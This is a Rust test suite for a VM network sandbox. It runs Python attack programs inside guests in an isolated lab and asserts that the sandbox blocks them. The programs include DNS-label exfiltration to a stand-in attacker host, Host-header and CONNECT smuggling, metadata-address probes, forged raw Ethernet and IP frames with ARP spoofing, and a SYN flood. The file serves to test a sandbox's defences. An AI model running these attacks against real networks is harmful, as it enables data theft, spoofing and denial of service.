//! Attacks on the network of a VM, each in a lab with no way out.

#![allow(clippy::unwrap_used, reason = "a test may panic")]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use lampyr_e2e::lab::{HOST_PORT, Lab, in_lab};
use lampyr_e2e::{Envelope, Session, TestContext, eventually};
use serde_json::{Value, json};

const MINUTE: Duration = Duration::from_mins(1);

/// What the guest has for its attacks.
const TOOLS: &str = r#"
import socket, sys, time, struct, os
def ask(address, text, port=80, wait=5):
    """Says something to an address; gives the first that comes back."""
    start = time.time()
    try:
        s = socket.create_connection((address, port), wait)
        s.settimeout(wait)
        s.sendall(text.encode())
        got = s.recv(65536)
        said = got.decode(errors='replace').split('\r\n\r\n')[-1].strip() if got else 'closed'
    except Exception as e:
        said = type(e).__name__
    took = time.time() - start
    return said if took < 4 else f'slow {took:.1f} {said}'
def get(host, more=''):
    return f'GET / HTTP/1.1\r\nHost: {host}\r\n{more}\r\n'
"#;

/// Runs a program in a VM under these rules.
fn attack(rules: &str, program: &str) -> Envelope {
    let context = TestContext::shared();
    let call = context.lampyr(["run", "--net", rules, "--timeout", "50s", "python3 -"]);
    call.stdin(format!("{TOOLS}{program}")).within(MINUTE).envelope()
}

/// The reason for which something was denied.
fn denied(envelope: &Envelope, host: &str) -> String {
    let rows = envelope["meta"]["denied"].as_array().cloned().unwrap_or_default();
    let row = rows.iter().find(|row| row["host"] == host);
    row.map_or_else(|| format!("not denied: {rows:?}"), |r| r["reason"].as_str().unwrap().into())
}

#[test]
fn only_the_allowed_name_is_reached() {
    in_lab("only_the_allowed_name_is_reached", |lab: &Lab| {
        let done = attack(
            "allow=good.example.com,six.example.com",
            "
print(ask('good.example.com', get('good.example.com')))
print(ask('six.example.com', get('six.example.com')))
print(ask('other.example.com', get('other.example.com')))
print(ask('93.184.216.35', get('good.example.com')))
print(ask('secret-data.good.example.com', ''))
print(ask('c2VjcmV0.attacker.example.net', ''))
print(ask('good.example.com', get('good.example.com'), 8080))
",
        );
        let lines: Vec<_> = done.success().lines().collect();
        let refused = "ConnectionRefusedError";
        let expected = [
            "hello from 93.184.216.34:80",
            "hello from [2606:2800:220:1::34]:80",
            "gaierror",
            refused,
            "gaierror",
            "gaierror",
            refused,
        ];
        assert_eq!(lines, expected);
        assert_eq!(denied(&done, "other.example.com"), "no-rule");
        assert_eq!(denied(&done, "93.184.216.35"), "no-rule");
        assert_eq!(done["meta"]["net"]["connections"], 2);
        // Nothing of a name that is shut leaves, to any server.
        for silent in ["secret", "c2VjcmV0", "dns other", "93.184.216.35", ":8080"] {
            lab.assert_silent(silent);
        }
    });
}

#[test]
fn an_allowed_name_opens_no_other_network() {
    in_lab("an_allowed_name_opens_no_other_network", |lab: &Lab| {
        let done = attack(
            "allow=*.bad.example.com",
            "
for name in 'loop zero meta private host own mapped gateway'.split():
    for port in (80, 443):
        print(ask(name + '.bad.example.com', get(name), port))
for address in '127.0.0.1 169.254.169.254 10.99.0.1 10.99.0.2 93.184.216.99 192.0.0.1 \
::ffff:10.99.0.2 64:ff9b::a63:2 fd99::1 fd99::2 2002:a63:2::'.split():
    print(ask(address, get('private.bad.example.com')))
print(ask('mixed.bad.example.com', get('mixed.bad.example.com')))
",
        );
        let lines: Vec<_> = done.success().lines().collect();
        let (last, shut) = lines.split_last().unwrap();
        assert_eq!(*last, "hello from 93.184.216.34:80");
        let good = ["gaierror", "ConnectionRefusedError", "OSError"];
        assert!(shut.len() == 27 && shut.iter().all(|line| good.contains(line)), "{shut:?}");
        for (name, reason) in [
            ("loop", "host-address"),
            ("meta", "metadata-address"),
            ("private", "private-address"),
            ("own", "host-address"),
        ] {
            assert_eq!(denied(&done, &format!("{name}.bad.example.com")), reason);
        }
        for silent in ["host tcp", "tcp 169.254", "tcp 10.99", "tcp [fd99"] {
            lab.assert_silent(silent);
        }
    });
}

#[test]
fn an_address_answers_for_its_own_name_alone() {
    in_lab("an_address_answers_for_its_own_name_alone", |lab: &Lab| {
        let done = attack(
            "allow=good.example.com:80+443+8080,nothing.example.com",
            r"
import ssl
address = socket.gethostbyname('good.example.com')
def hello(name):
    context = ssl._create_unverified_context()
    try:
        raw = socket.create_connection((address, 443), 5)
        context.wrap_socket(raw, server_hostname=name)
    except Exception as e:
        return type(e).__name__
for port in (80, 8080):
    print(ask(address, get('evil.example.com'), port))
    print(ask(address, get('same.example.com'), port))
    print(ask(address, get('good.example.com', 'Host: evil.example.com\r\n'), port))
    print(ask(address, 'GET / HTTP/1.1\r\n\r\n', port))
    print(ask(address, 'CONNECT evil.example.com:443 HTTP/1.1\r\nHost: good.example.com\r\n\r\n', port))
    print(ask(address, 'GET http://evil.example.com/ HTTP/1.1\r\nHost: good.example.com\r\n\r\n', port))
    print(ask(address, get('good.example.com', 'Upgrade: h2c\r\nConnection: Upgrade\r\n'), port))
    print(ask(address, '\r\nget / http/1.1\nhost: evil.example.com\n\n', port))
    print(ask(address, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', port))
print(ask(address, 'evil, but in no protocol of the web\r\n'))
for name in ('evil.example.com', 'same.example.com', None):
    print(hello(name))
print(hello('good.example.com'))
s = socket.create_connection((address, 80), 5)
s.sendall(get('good.example.com').encode())
print(s.recv(1000)[-1:])
s.sendall(get('evil.example.com').encode())
try:
    print(s.recv(1000))
except Exception as e:
    print(type(e).__name__)
",
        );
        let lines: Vec<_> = done.success().lines().collect();
        let shut: Vec<_> =
            lines[..22].iter().filter(|line| **line != "ConnectionResetError").collect();
        assert_eq!(shut, Vec::<&&str>::new(), "{lines:?}");
        assert_eq!(lines[22..], ["SSLError", "b'\\n'", "ConnectionResetError"]);
        assert_eq!(denied(&done, "evil.example.com"), "other-host");
        for silent in ["evil", "same", "PRI", "Upgrade"] {
            lab.assert_silent(silent);
        }
        assert_eq!(lab.heard("443 heard").len(), 1);
    });
}

#[test]
fn the_gateway_is_no_door_to_the_host() {
    in_lab("the_gateway_is_no_door_to_the_host", |lab: &Lab| {
        let done = attack(
            &format!("allow=host:{HOST_PORT},public,private"),
            "
print(ask('host.lampyr.internal', get('x'), 7000))
for address in '192.0.0.1 fe80::1%eth0 10.99.0.1 fd99::1 93.184.216.99'.split():
    for port in (80, 443, 7001, 53):
        print(ask(address, get('x'), port))
print(ask('10.99.0.1', get('x'), 7000))
print(ask('10.99.0.2', get('x'), 5000))
",
        );
        let lines: Vec<_> = done.success().lines().collect();
        assert_eq!(lines[0], "hello from 127.0.0.1:7000");
        assert_eq!(lines[22], "hello from 10.99.0.2:5000");
        let shut = lines[1..22].iter().all(|line| *line == "ConnectionRefusedError");
        assert!(shut, "{lines:?}");
        assert_eq!(lab.heard("host tcp").len(), 2, "{:?}", lab.heard("host tcp"));
    });
}

#[test]
fn there_is_no_way_around_the_resolver() {
    in_lab("there_is_no_way_around_the_resolver", |lab: &Lab| {
        let program = r"
for address, port in (('93.184.216.34', 853), ('93.184.216.34', 53), ('1.1.1.1', 443)):
    print(ask(address, 'x', port))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
for address, port in (('93.184.216.34', 443), ('93.184.216.34', 853), ('10.99.0.2', 53),
                      ('93.184.216.34', 123), ('192.0.0.1', 123)):
    s.sendto(b'exfiltrated', (address, port))
try:
    print(s.recv(100))
except Exception as e:
    print(type(e).__name__)
";
        let refused = "ConnectionRefusedError\n".repeat(3);
        let done = attack("public", program);
        assert_eq!(
            done.success(),
            format!("{refused}timeout\n").replace("timeout", "TimeoutError")
        );
        assert_eq!(denied(&done, "1.1.1.1"), "hidden-dns");
        assert_eq!(denied(&done, "93.184.216.34"), "hidden-dns");
        for silent in ["exfiltrated", "tcp", "dns"] {
            lab.assert_silent(silent);
        }
        let opened = attack("allow=public,public:123/udp", program);
        assert_eq!(opened.success(), format!("{refused}b'pong'\n"));
        assert_eq!(lab.heard("exfiltrated"), ["away udp 123 heard \"exfiltrated\""]);
    });
}

#[test]
fn a_guest_speaks_for_itself_in_whole_packets() {
    in_lab("a_guest_speaks_for_itself_in_whole_packets", |lab: &Lab| {
        let done = attack(
            "allow=93.184.216.34:5000/udp,93.184.216.34:80,public:123/udp",
            r"
def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
card.bind(('eth0', 0))
mac = open('/sys/class/net/eth0/address').read().strip()
mac = bytes(int(part, 16) for part in mac.split(':'))
gateway = bytes([2, 0x6c, 0x61, 0x6d, 0x70, 1])
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect(('93.184.216.34', 123))
own = socket.inet_aton(probe.getsockname()[0])
there = socket.inet_aton('93.184.216.34')
def send(source=own, frm=mac, to=gateway, flags=0, payload=b'forged', wrong=0, udp_wrong=0, cut=0):
    length = 8 + len(payload)
    pseudo = source + there + struct.pack('!BBH', 0, 17, length)
    udp = struct.pack('!HHHH', 999, 123, length, 0) + payload
    udp = udp[:6] + struct.pack('!H', checksum(pseudo + udp) ^ udp_wrong) + udp[8:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(udp), 1, flags, 64, 17, 0) + source + there
    ip = ip[:10] + struct.pack('!H', checksum(ip) ^ wrong) + ip[12:]
    frame = to + frm + b'\x08\x00' + ip + udp
    card.send(frame[:len(frame) - cut])
send(source=socket.inet_aton('100.64.0.77'))
send(source=there)
send(source=socket.inet_aton('127.0.0.1'))
send(frm=b'\x02\0\0\0\0\x09')
send(to=b'\x02\0\0\0\0\x09')
send(flags=0x2000)
send(flags=0x0001)
send(wrong=1)
send(udp_wrong=1)
send(cut=3)
for cut in range(1, 34):
    send(cut=cut)
arp = struct.pack('!HHBBH', 1, 0x800, 6, 4, 2)
for sender, address in ((b'\x02\0\0\0\0\x09', own), (mac, socket.inet_aton('192.0.0.1'))):
    card.send(gateway + mac + b'\x08\x06' + arp + sender + address + gateway + socket.inet_aton('192.0.0.1'))
probe.send(b'honest')
probe.settimeout(5)
print(probe.recv(100))
send(payload=b'whole')
time.sleep(0.2)
print(ask('93.184.216.34', get('x')))
",
        );
        assert_eq!(done.success(), "b'pong'\nhello from 93.184.216.34:80\n");
        lab.assert_silent("forged");
        assert_eq!(lab.heard("honest").len(), 1);
        assert_eq!(lab.heard("whole").len(), 1);
    });
}

#[test]
fn many_connections_end_nobody_but_the_guest() {
    in_lab("many_connections_end_nobody_but_the_guest", |lab: &Lab| {
        let context = TestContext::shared();
        let session = Session::start(&context, &["--net", "allow=93.184.216.34"]);
        let many = r"
import threading
def one(results):
    results.append(ask('93.184.216.34', get('x')))
results = []
threads = [threading.Thread(target=one, args=(results,)) for _ in range(100)]
for t in threads: t.start()
for t in threads: t.join()
print(results.count('hello from 93.184.216.34:80'))
";
        let run = |program: &str| {
            let call = session.exec("python3 -").stdin(format!("{TOOLS}{program}"));
            call.within(MINUTE).envelope()
        };
        assert_eq!(run(many).success(), "100\n");
        let flood = r"
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.connect(('93.184.216.34', 0))
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect(('93.184.216.34', 9))
ends = socket.inet_aton(probe.getsockname()[0]) + socket.inet_aton('93.184.216.34')
base = struct.unpack('!10H', ends + struct.pack('!BBH', 0, 6, 20) + struct.pack('!HIIBB', 80, 1, 0, 0x50, 2)[:8])
for n in range(10000):
    head = struct.pack('!HHIIBBH', 20000 + n, 80, 1, 0, 0x50, 2, 1024)
    data = ends + struct.pack('!BBH', 0, 6, 20) + head + b'\0\0\0\0'
    total = sum(struct.unpack('!16H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    while True:
        try:
            raw.send(head + struct.pack('!HH', ~total & 0xffff, 0))
            break
        except OSError:
            time.sleep(0.001)
print('sent')
";
        let before = memory(&session);
        assert_eq!(run(flood).success(), "sent\n");
        // Where the network keeps up, each is opened once.
        let opened = lab.heard("opened").len();
        assert!(opened <= 10_100, "{opened} were opened");
        let grown = memory(&session).saturating_sub(before);
        assert!(grown < 40 << 10, "the flood took {grown} KiB");
        let deadline = Instant::now() + MINUTE;
        while run("print(ask('93.184.216.34', get('x')))").success()
            != "hello from 93.184.216.34:80\n"
        {
            assert!(Instant::now() < deadline, "the network did not come back");
        }
        session.stop();
    });
}

/// The most memory that a session's network has had resident so far, in KiB.
fn memory(session: &Session<'_>) -> u64 {
    let most = session.owner().child("vm-network").unwrap().status("VmHWM");
    most.split(' ').next().unwrap().parse().unwrap()
}

#[test]
fn a_thousand_connections_fit_into_little_memory() {
    const MANY: usize = 1000;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // It ends with this process.
    std::thread::spawn(move || {
        let held: Vec<_> = listener.incoming().flatten().take(MANY).collect();
        // Each hears that all of them are open.
        for mut stream in &held {
            stream.write_all(b"!").unwrap();
        }
        std::thread::park();
    });
    let context = TestContext::shared();
    let session = Session::start(&context, &["--net", &format!("allow=host:{port}")]);
    let program = format!(
        r"
import socket
held = [socket.create_connection(('host.lampyr.internal', {port})) for _ in range({MANY})]
print(sum(s.recv(1) == b'!' for s in held))
"
    );
    let before = memory(&session);
    let call = session.exec("ulimit -n 4096; python3 -").stdin(program).within(MINUTE);
    assert_eq!(call.envelope().success(), format!("{MANY}\n"));
    let grown = memory(&session) - before;
    assert!(grown < 20 << 10, "{MANY} connections took {grown} KiB");
    session.stop();
}

#[test]
fn a_rate_holds_both_ways() {
    const AMOUNT: usize = 2 << 20;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // It ends with this process.
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut word = [0];
            stream.read_exact(&mut word).unwrap();
            if word == *b"u" {
                stream.read_exact(&mut vec![0; AMOUNT]).unwrap();
            }
            let answer = if word == *b"u" { 1 } else { AMOUNT };
            stream.write_all(&vec![b'd'; answer]).unwrap();
        }
    });
    let program = format!(
        r"
import socket, time
for word, said, due in ((b'u', {AMOUNT}, 1), (b'd', 0, {AMOUNT})):
    s = socket.create_connection(('host.lampyr.internal', {port}))
    start, got = time.time(), 0
    s.sendall(word + b'x' * said)
    while got < due:
        got += len(s.recv(65536))
    print(got, time.time() - start)
"
    );
    let rules = format!("allow=host:{port}");
    let words = ["run", "--net", &rules, "--net-rate", "1MB", "--timeout", "50s", "python3 -"];
    let done = TestContext::shared().lampyr(words).stdin(program).within(MINUTE).envelope();
    let lines: Vec<_> = done.success().lines().map(|line| line.split_once(' ').unwrap()).collect();
    assert_eq!((lines[0].0, lines[1].0), ("1", &*AMOUNT.to_string()));
    for (_, took) in lines {
        // Two seconds, but for what a bucket and the buffers hold.
        let took: f64 = took.parse().unwrap();
        assert!((1.5..30.0).contains(&took), "{took}");
    }
}

#[test]
fn a_policy_is_replaced_while_a_session_runs() {
    in_lab("a_policy_is_replaced_while_a_session_runs", |lab: &Lab| {
        let context = TestContext::shared();
        let session = Session::start(&context, &["--net", "record"]);
        let run = |program: &str| {
            let call = session.exec("python3 -").stdin(format!("{TOOLS}{program}"));
            call.within(MINUTE).envelope()
        };
        let policy = |words: &[&str]| {
            let done = context.lampyr(["policy"].iter().chain(words)).finish();
            assert_eq!(done.status(), Some(0), "{done:?}");
            serde_json::from_str::<Value>(&done.stdout()).unwrap()
        };
        let sid = session.row().unwrap()["sid"].as_str().unwrap().to_owned();
        let both = "
print(ask('good.example.com', get('good.example.com')))
print(ask('other.example.com', get('other.example.com'), 8080))
";
        let hello = "hello from 93.184.216.34:80\n";
        assert_eq!(run(both).success(), format!("{hello}hello from 93.184.216.35:8080\n"));
        let expected = json!(["good.example.com:80", "other.example.com:8080"]);
        assert_eq!(policy(&["suggest", &sid])["rules"], expected);

        let held = session.exec("python3 -").stdin(format!(
            "{TOOLS}
held = socket.create_connection(('93.184.216.35', 8080))
held.sendall(get('other.example.com').encode())
held.recv(1000)
print('held', flush=True)
try:
    print(held.recv(1000))
except Exception as e:
    print(type(e).__name__)
"
        ));
        let held = held.within(MINUTE).start();
        eventually("the connection is not held", || lab.heard(":8080 heard").len() == 2);
        policy(&["set", &sid, "--net", "allow=good.example.com:80"]);
        assert_eq!(held.finish().envelope().success(), "held\nConnectionResetError\n");
        let after = run(both);
        assert_eq!(after.success(), format!("{hello}gaierror\n"));
        // What it was started with opens nothing in a fork either.
        let forked = context.lampyr(["fork", &sid]).finish().json();
        let fork = Session::of(&context, forked["sids"][0].as_str().unwrap());
        let call = fork.exec("python3 -").stdin(format!("{TOOLS}{both}")).within(MINUTE);
        assert_eq!(call.envelope().success(), format!("{hello}gaierror\n"));
        fork.stop();
        // Each command is told of its own refusals alone.
        assert_eq!(denied(&after, "other.example.com"), "no-rule");
        assert!(run("")["meta"]["denied"].is_null());
        session.stop();
    });
}
